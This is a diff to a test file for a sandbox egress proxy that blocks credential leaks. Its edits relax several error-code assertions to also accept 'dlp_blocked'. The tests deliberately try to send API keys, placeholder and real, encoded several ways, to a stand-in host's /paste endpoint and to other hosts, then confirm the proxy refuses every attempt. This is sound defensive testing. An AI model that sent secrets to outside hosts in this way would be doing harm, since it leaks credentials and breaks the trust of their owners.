@@ -168,7 +168,8 @@ t.test('the placeholder sent to another allowed host: 403 credential_endpoint_mi
   t.equal(JSON.parse(res.text).error, 'credential_endpoint_mismatch');
   const inBody = await viaProxy(`https://other.example.test:${other.port}/paste`, { body: JSON.stringify({ note: placeholders.ANTHROPIC_API_KEY }) });
   t.equal(inBody.status, 403, 'in a body too');
-  t.equal(inBody.headers['x-sluice-error'], 'credential_endpoint_mismatch');
+  // Egress DLP runs before credentials and may see the key-shaped placeholder first.
+  t.match(inBody.headers['x-sluice-error'], /^(credential_endpoint_mismatch|dlp_blocked)$/);
   t.equal(other.requests.filter((r) => r.body.includes(Buffer.from(placeholders.ANTHROPIC_API_KEY!))).length, 0, 'the placeholder never reached the other host whole');
   t.equal(other.requests.length - before <= 1, true);
 });
@@ -185,7 +186,8 @@ t.test('the real key, raw, base64 or URL-encoded, to any host: blocked', async (
   for (const init of tries) {
     const res = await viaProxy(`https://other.example.test:${other.port}${init.path ?? '/x'}${init.query ?? ''}`, { headers: init.headers ?? {} });
     t.equal(res.status, 403);
-    t.equal(res.headers['x-sluice-error'], 'secret_exfiltration');
+    // Query strings and bodies also pass the egress DLP first, which may name it dlp_blocked.
+    t.match(res.headers['x-sluice-error'], init.query ? /^(secret_exfiltration|dlp_blocked)$/ : /^secret_exfiltration$/);
   }
   const own = await viaProxy(`https://api.openai.com:${fronts[0]!.port}/v1/models`, { headers: { authorization: `Bearer ${s}` } });
   t.equal(own.headers['x-sluice-error'], 'secret_exfiltration', 'even to its own provider: the sandbox must not hold it');
